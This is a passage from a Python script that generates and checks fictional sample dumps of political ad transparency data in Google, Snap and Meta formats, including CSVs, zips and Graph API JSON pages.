    "Gender_Targeting", "Geo_Targeting_Included", "Geo_Targeting_Excluded", "Is_Funded_By_Google_Ad_Grants",
    *range_columns(STEP_2026), "",
]  # fmt: skip


def in_20(amounts: Mapping[str, int]) -> list[int]:
    """Spread amounts over the twenty currency columns; the others hold 0."""
    return [amounts.get(currency, 0) for currency in STEP_2026]


def google_week(who: str, week: str, capture: int) -> dict[str, int] | None:
    """Give what an advertiser spent in a week by currency, or None where the capture has no row."""
    if WEEKS.index(week) >= (9, 12)[capture]:
        return None
    amounts = {}
    for (advertiser, currency), text in WEEKLY.items():
        cell = text.split()[WEEKS.index(week)]
        if advertiser == who and cell != "-":
            first = WEEKLY_FIRST.get((who, currency, week), int(cell))
            amounts[currency] = int(cell) if capture else first
    return amounts or None


def google_total(who: str, capture: int) -> dict[str, int]:
    """Give an advertiser's total by currency: its weeks, and the drift of a figure rounded on its own."""
    total = {currency: TOTAL_DRIFT.get((who, currency), 0) for advertiser, currency in WEEKLY if advertiser == who}
    for week in WEEKS:
        for currency, amount in (google_week(who, week, capture) or {}).items():
            total[currency] += amount
    return total


def google_creatives(capture: int) -> list[Creative]:
    """List the creatives of a capture."""
    if not capture:
        return list(CREATIVES)
    kept = [creative for creative in CREATIVES + CREATIVES_NEW if creative.n not in CREATIVES_GONE]
    return [creative._replace(**CREATIVES_LATER.get(creative.n, {})) for creative in kept]


def creative_row(creative: Creative) -> list[object]:
    """Print a creative: its own currency has the bucket, the nineteen others hold their lowest one."""
    where = f"region={creative.region}&topic=political"
    ad_id, who = f"CR9999{creative.n:016}", GOOGLE[creative.advertiser]
    buckets: list[object] = []
    for currency, step in STEP_2026.items():
        buckets += creative.spend.split("-") if currency == CURRENCY_OF[creative.region] else [0, step]
    return [
        ad_id,
        f"https://adstransparency.google.com/advertiser/{who.id}/creative/{ad_id}?{where}",
        creative.kind, creative.region, who.id, who.name, "", creative.start, creative.end, creative.days,
            creative.impressions, "",
        f"{creative.start}T{creative.n % 24:02}:30:00Z", f"{creative.end}T23:{creative.n:02}:00Z",
        creative.ages, creative.genders, creative.where, creative.not_where, creative.grants,
        *buckets, "",
    ]  # fmt: skip


# --------------------------------------------------------------------------------------------------------------------
# How Snap prints them
# --------------------------------------------------------------------------------------------------------------------

SNAP_V3 = [
    "ADID", "CreativeUrl", "Currency Code", "Spend", "Impressions", "StartDate", "EndDate", "OrganizationName",
    "BillingAddress", "CandidateBallotInformation", "PayingAdvertiserName", "CommitteeName",
    "CommitteeIdentificationNumber", "DisclosureNameOfCommittee", "AdvertisingJurisdiction", "Gender", "AgeBracket",
    "CountryCode", "Regions (Included)", "Regions (Excluded)", "Electoral Districts (Included)",
    "Electoral Districts (Excluded)", "Radius Targeting (Included)", "Radius Targeting (Excluded)", "Metros (Included)",
    "Metros (Excluded)", "Postal Codes (Included)", "Postal Codes (Excluded)", "Location Categories (Included)",
    "Location Categories (Excluded)", "Interests", "OsType", "Segments", "Language", "AdvancedDemographics",
    "Targeting Connection Type", "Targeting Carrier (ISP)", "CreativeProperties",
]  # fmt: skip
SNAP_V2 = SNAP_V3[:11] + SNAP_V3[15:]  # before the four committee columns
# The first header had no currency, and could not say "excluded".
SNAP_V1 = [
    "ADID", "CreativeUrl", "Spend", "Impressions", "StartDate", "EndDate", "OrganizationName", "BillingAddress",
    "CandidateBallotInformation", "PayingAdvertiserName", "Gender", "AgeBracket", "CountryCode", "RegionID",
    "ElectoralDistrictID", "LatLongRad", "MetroID", "Interests", "OsType", "Segments", "LocationType", "Language",
    "AdvancedDemographics", "Targeting Connection Type", "Targeting Carrier (ISP)", "Targeting Geo - Postal Code",
    "CreativeProperties",
]  # fmt: skip
SNAP_V1_NAMES = {
    "Regions (Included)": "RegionID",
    "Electoral Districts (Included)": "ElectoralDistrictID",
    "Metros (Included)": "MetroID",
    "Location Categories (Included)": "LocationType",
    "Postal Codes (Included)": "Targeting Geo - Postal Code",
}


def snap_csv(ads: Iterable[Json], columns: Sequence[str], newline: str) -> bytes:
    """Write ads under the given columns; what an ad does not say is empty."""
    return csv_bytes([columns, *([ad.get(column, "") for column in columns] for ad in ads)], newline)


def snap(capture: int) -> Files:
    """Make the zip of the year; the order of its rows is not stable from day to day."""
    ads = list(SNAP_ADS)
    if capture:
        ads = [ad | SNAP_LATER.get(n, {}) for n, ad in enumerate(SNAP_ADS, 1)] + list(SNAP_NEW)
    ads.sort(key=lambda ad: str(ad["ADID"]), reverse=bool(capture))
    members = {"PoliticalAds.csv": snap_csv(ads, SNAP_V3, "\r\n"), "readme.txt": SNAP_README.encode()}
    return {"snap/2026.zip": Zip(CAPTURES[capture], members)}


# --------------------------------------------------------------------------------------------------------------------
# How they printed it before
# --------------------------------------------------------------------------------------------------------------------


def old_google_2018() -> Files:
    """Make the first bundle: US only, dollars only, no creatives."""
    weekly = [
        (ad_id, name, "US-Federal-2018", week, cell)
        for ad_id, name, _, _, _, cells in OLD_GOOGLE_2018
        for week, cell in zip(OLD_GOOGLE_2018_WEEKS, cells.split(), strict=True)
        if cell != "-"
    ]
    tables: dict[str, list[Sequence[object]]] = {
        "advertiser-stats": [
            ("Advertiser_ID", "Advertiser_Name", "Public_IDs_List", "Total_Creatives", "Total_Spend_USD"),
            *(row[:5] for row in OLD_GOOGLE_2018),
        ],
        "advertiser-weekly-spend": [
            ("Advertiser_ID", "Advertiser_Name", "Election_Cycle", "Week_Start_Date", "Spend_USD"),
            *weekly,
        ],
        "geo-spend": [("State", "Congressional_District", "Total_Spend_USD"), *OLD_GOOGLE_2018_GEO],
        "top-keywords-history": [
            ("Election_Cycle", "Report_Date", *(name.replace("_USD", "") for name in KEYWORDS_HEADER[4:])),
            OLD_GOOGLE_2018_KEYWORDS,
        ],
    }
    return {f"old/google_2018/google-political-ads-{name}.csv": csv_bytes(rows) for name, rows in tables.items()}


def conversions(dollars: float) -> list[int]:
    """Convert dollars into the twelve currencies of 2020, each rounded to its own step."""
    steps = zip(RATES_2020.values(), STEP_2020.values(), strict=True)
    return [int(dollars * rate / step + 0.5) * step for rate, step in steps]


def old_google_2020() -> Files:
    """Make the bundle of early 2020: twelve currencies that all say the same."""
    spend = [f"Spend_{currency}" for currency in RATES_2020]
    run = Counter(row[3] for row in OLD_GOOGLE_2020_CREATIVES)
    tables: dict[str, list[Sequence[object]]] = {
        "advertiser-stats": [
            ["Advertiser_ID", "Advertiser_Name", "Public_IDs_List", "Regions", "Elections", "Total_Creatives", *spend],
            *([ad_id, name, public_ids, where, elections, run[place], *conversions(math.fsum(weeks))]
              for place, (ad_id, name, public_ids, where, elections, _, weeks) in enumerate(OLD_GOOGLE_2020)),
        ],
        "advertiser-weekly-spend": [
            ["Advertiser_ID", "Advertiser_Name", "Election_Cycle", "Week_Start_Date", *spend],
            *([ad_id, name, cycle, week, *conversions(dollars)]
              for ad_id, name, _, _, _, cycle, weeks in OLD_GOOGLE_2020
              for week, dollars in zip(OLD_GOOGLE_2020_WEEKS, weeks, strict=True)),
        ],
        "geo-spend": [
            ["Country", "Country_Subdivision_Primary", "Country_Subdivision_Secondary", *spend],
            *([*place, *conversions(dollars)] for *place, dollars in OLD_GOOGLE_2020_GEO),
        ],
        "creative-stats": [
            [*CREATIVE_HEADER[:12], *range_columns(RATES_2020)],
            *map(old_creative_row, OLD_GOOGLE_2020_CREATIVES),
        ],
        "campaign-targeting": [
            CAMPAIGN_HEADER,
            *([*facts, OLD_GOOGLE_2020[who][0], OLD_GOOGLE_2020[who][1]] for *facts, who in OLD_GOOGLE_2020_CAMPAIGNS),
        ],
        "advertiser-declared-stats": [
            ["Advertiser_Declared_Name", "Advertiser_Declared_Regulatory_ID", "Advertiser_Declared_Scope"],
            *OLD_GOOGLE_2020_DECLARED,
        ],
        "top-keywords-history": [KEYWORDS_HEADER, *KEYWORDS],
        "updated": [["Report_Data_Updated_Date"], ["2020-02-25"]],
    }  # fmt: skip
    members = {f"google-political-ads-{name}.csv": csv_bytes(rows) for name, rows in tables.items()}
    members["README.txt"] = OLD_GOOGLE_2020_README.encode()
    return {f"old/google_2020/{name}": data for name, data in members.items()}


def old_creative_row(row: tuple[Any, ...]) -> list[object]:
    """Print a creative of 2020: the same bucket in every currency, the open one without an upper end."""
    ad_id, kind, where, who, campaign, start, end, days, impressions, spend, lower, upper = row
    advertiser_id, name = OLD_GOOGLE_2020[who][:2]
    uppers = [""] * 12 if upper is None else conversions(upper)
    ranges = [bound for pair in zip(conversions(lower), uppers, strict=True) for bound in pair]
    url = f"https://transparencyreport.google.com/political-ads/advertiser/{advertiser_id}/creative/{ad_id}"
    return [ad_id, url, kind, where, advertiser_id, name, campaign, start, end, days, impressions, spend, *ranges]


def old_snap() -> Files:
    """Make the two earlier headers: 27 columns with CRLF as in the zip, 34 columns with LF as git copies have it."""
    first = [{SNAP_V1_NAMES.get(column, column): value for column, value in ad.items()} for ad in OLD_SNAP_2018]
    return {
        "old/snap_v1/PoliticalAds.csv": snap_csv(first, SNAP_V1, "\r\n"),
        "old/snap_v2/2019.csv": snap_csv(OLD_SNAP_2019, SNAP_V2, "\n"),
    }


def old_meta_report() -> Files:
    """Make the two earlier reports, as loose files."""
    header = ("Page Name", "Disclaimer", "Amount Spent", "Number of Ads in Library")
    to_date = [(page, payer, amount, ads) for page, payer, amount, ads, _, _ in OLD_REPORT_GEN1]
    this_week = [(page, payer, amount, ads) for page, payer, _, _, amount, ads in OLD_REPORT_GEN1 if amount]
    gen1 = "old/meta_report_gen1/FacebookAdLibraryReportGB2019-05-18"
    gen2 = "old/meta_report_gen2/FacebookAdLibraryReport_2020-07-15_US_last_90_days"
    advertisers = ("Page ID,Page Name,Disclaimer,Amount Spent (USD),Number of Ads in Library", *OLD_REPORT_GEN2)
    locations = ("Location Name,Amount Spent (USD)", *OLD_REPORT_GEN2_LOCATIONS)
    return {
        f"{gen1}SpendingToDate.csv": report_csv([header, *to_date]),
        f"{gen1}ThisWeekSpending.csv": report_csv([header, *this_week]),
        f"{gen2}_advertisers.csv": "\n".join(advertisers).encode("utf-8-sig"),
        f"{gen2}_locations.csv": "\n".join(locations).encode("utf-8-sig"),
    }


def old_record(ad: OldAd) -> Json:
    """Print what the API told of an ad in its first years, in the order of its v5 pages; empty fields are left out."""
    salt = f"old {ad.n}"
    record: Json = {
        "funding_entity": ad.funder,
        "region_distribution": regions(ad.regions, salt),
        "ad_delivery_start_time": ad.started,
        "ad_delivery_stop_time": ad.stops,
        "ad_creative_link_description": ad.description,
        "ad_creative_link_title": ad.title,
        "ad_creative_link_caption": ad.caption,
        "ad_creative_body": ad.body,
        "ad_creation_time": ad.created or ad.started,
        "spend": meta_interval(ad.spend),
        "impressions": meta_interval(ad.impressions),
        "demographic_distribution": demographics(ad.people, salt),
    }
    return {key: value for key, value in record.items() if value}


def as_graph_api(page: Json) -> bytes:
    """Print JSON as the Graph API sends it: on one line, in ASCII, with slashes and percent signs escaped."""
    return json.dumps(page, separators=(",", ":")).replace("/", "\\/").replace("%", "\\u0025").encode()


def old_meta_api() -> Files:
    """Make raw pages of v5 (no id, page or currency), a bare array of v3, and NDJSON of 2021 with both field names."""
    files: Files = {"old/meta_api_v5/PoliticalAds_20191110T093000_3": b'{"data":[]}'}
    for number, ads in ((1, OLD_API_2019_GB[:4]), (2, OLD_API_2019_GB[4:])):
        after = cursor(ads[-1].started, f"9999910000000{ads[-1].n:02}")
        following = (
            f"https://graph.facebook.com/v5.0/ads_archive?access_token={TOKEN}&fields={'%2C'.join(old_record(OLD_API_2019_GB[0]))}"
            f"&search_terms=%27%27&ad_reached_countries=%5B%27GB%27%5D&limit=4&after={after}"
        )
        page = {"data": list(map(old_record, ads)), "paging": {"cursors": {"after": after}, "next": following}}
        files[f"old/meta_api_v5/PoliticalAds_20191110T093000_{number}"] = as_graph_api(page)
    array = [
        dict(sorted((old_record(ad) | page_of(ad) | {"ad_snapshot_url": snapshot(f"9999910000000{ad.n}")}).items()))
        for ad in OLD_API_2019_EU
    ]
    files["old/meta_api_v3/ads.json"] = json.dumps(array, ensure_ascii=False, indent=2).encode()
    lines = [json.dumps(record_2021(ad)) + "\n" for ad in OLD_API_2021]
    return files | {"old/meta_api_2021/ads.ndjson": "".join(lines).encode()}


def page_of(ad: OldAd) -> Json:
    """Give the page fields of an old ad."""
    return {"page_id": PAGES[ad.page].id, "page_name": PAGES[ad.page].name, "currency": "EUR"}


def record_2021(ad: OldAd) -> Json:
    """Print an ad of 2021, when the API gave an id, and each creative field both as one string and as a list."""
    ad_id = f"9999910000000{ad.n}"
    record: Json = {"id": ad_id} | old_record(ad) | page_of(ad) | {"ad_snapshot_url": snapshot(ad_id)}
    for one in (
        "ad_creative_body",
        "ad_creative_link_caption",
        "ad_creative_link_description",
        "ad_creative_link_title",
    ):
        if one in record:
            many = one.replace("body", "bodie") + "s"
            record[many] = [record[one]]
    return record | {
        "delivery_by_region": record["region_distribution"],
        "languages": ["de" if ad.page == "civic" else "en"],
        "potential_reach": meta_interval(OLD_AUDIENCE_2021[ad.n]),
        "publisher_platforms": ["facebook", "instagram"],
    }


# --------------------------------------------------------------------------------------------------------------------
# Writing and checking
# --------------------------------------------------------------------------------------------------------------------


def csv_bytes(rows: Iterable[Sequence[object]], newline: str = "\n") -> bytes:
    """Write rows as CSV in UTF-8, quoting only where it must."""
    text = io.StringIO()
    csv.writer(text, lineterminator=newline).writerows(rows)
    return text.getvalue().encode()


def zip_bytes(content: Zip) -> bytes:
    """Pack a zip whose members all carry noon of its day, with the attributes that platforms write."""
    year, month, day = map(int, content.day.split("-"))
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name, data in content.members.items():
            member = zipfile.ZipInfo(name, (year, month, day, 12, 0, 0))
            member.compress_type, member.create_system, member.external_attr = zipfile.ZIP_DEFLATED, 3, 0o100666 << 16
            archive.writestr(member, data)
    return packed.getvalue()


def samples() -> Files:
    """Make every sample: contents by path under this folder."""
    files: Files = {}
    for capture, day in enumerate(CAPTURES):
        for made in (meta_api(capture), meta_report(capture), google(capture), snap(capture)):
            files |= {f"{day}/{path}": content for path, content in made.items()}
    for made in (old_google_2018(), old_google_2020(), old_snap(), old_meta_report(), old_meta_api()):
        files |= made
    from archive.samples.make_more import more_samples  # it builds on the facts of this file

    files |= more_samples()
    from archive.samples.make_packed import packed_samples  # and it on both

    return files | packed_samples(files)


def is_on_disk(path: Path, content: bytes | Zip | Made) -> bool:
    """Tell whether a file holds this content. Zips compare by their members: compressors differ between machines."""
    if not path.is_file():
        return False
    if isinstance(content, bytes):
        return path.read_bytes() == content
    if isinstance(content, Made):
        return content.told(path.read_bytes()) == content.told(content.content)
    try:
        with zipfile.ZipFile(path) as packed, zipfile.ZipFile(io.BytesIO(zip_bytes(content))) as made:
            return [(m.filename, m.date_time, packed.read(m)) for m in packed.infolist()] == [
                (m.filename, m.date_time, made.read(m)) for m in made.infolist()
            ]
    except zipfile.BadZipFile:
        return False


def strays(files: Files) -> list[str]:
    """List files among the samples that this script does not make."""
    found = [path for folder in (*CAPTURES, "old", "more") for path in (HERE / folder).rglob("*") if path.is_file()]
    return sorted(name for path in found if (name := path.relative_to(HERE).as_posix()) not in files)


def main(arguments: Sequence[str] | None = None) -> int:
    """Write the samples, or check them; 0 if all is as it should be."""
    parser = argparse.ArgumentParser(description="Write the fictional sample dumps, or check those on disk.")
    parser.add_argument("--check", action="store_true", help="write nothing; fail if a file differs from what is made")
    check = parser.parse_args(arguments).check
    files = samples()
    stale = [path for path, content in files.items() if not is_on_disk(HERE / path, content)]
    if check:
        for path in stale:
            print(f"differs or is missing: {path}", file=sys.stderr)
        for path in strays(files):
            print(f"not made by make.py: {path}", file=sys.stderr)
        return 1 if stale or strays(files) else 0
    for path in stale:
        content = files[path]
        (HERE / path).parent.mkdir(parents=True, exist_ok=True)
        plain = content.content if isinstance(content, Made) else content
        (HERE / path).write_bytes(plain if isinstance(plain, bytes) else zip_bytes(plain))
    print(f"{len(files)} files, {len(stale)} written", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
